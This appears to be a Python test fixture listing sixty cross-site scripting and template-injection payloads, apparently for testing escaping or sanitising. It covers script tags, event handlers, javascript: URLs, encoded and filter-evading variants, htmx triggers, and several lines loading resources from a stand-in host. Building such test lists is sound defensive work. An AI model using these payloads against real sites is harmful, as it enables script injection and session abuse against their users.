"""Sixty texts that would do something if a page took them for markup, or for code."""

HOSTILE = tuple(
    line.strip()
    for line in r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
"><script>alert(1)</script>
'><script>alert(1)</script>
</script><script>alert(1)</script>
</td></tr></table><script>alert(1)</script>
</template><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=`x` onerror=alert(1)>
"><img src=x onerror=alert(1)>
" onmouseover="alert(1)
' onmouseover='alert(1)
` onmouseover=`alert(1)
" autofocus onfocus=alert(1) x="
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg/onload=alert(1)>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<a href="javascript:alert(1)">x</a>
javascript:alert(1)
JaVaScRiPt:alert(1)
data:text/html,<script>alert(1)</script>
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel=stylesheet href="//evil.example/x.css">
<base href="//evil.example/">
<style>*{background:url(//evil.example)}</style>
<div style="background:url(javascript:alert(1))">
<div hx-get="/logout/" hx-trigger="load">x</div>
<div data-hx-on:load="alert(1)">x</div>
<tr hx-swap-oob="true" id="rows"><td>x</td></tr>
<tr id="row-0" data-seq="999999"><td>x</td></tr>
{{ constructor.constructor('alert(1)')() }}
{% load static %}{% debug %}
${alert(1)}
<%= alert(1) %>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\x3cscript\x3ealert(1)\x3c/script\x3e
<scr<script>ipt>alert(1)</scr</script>ipt>
<ScRiPt >alert(1)</sCrIpT >
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
""".strip().splitlines()
)

assert len(HOSTILE) == 60
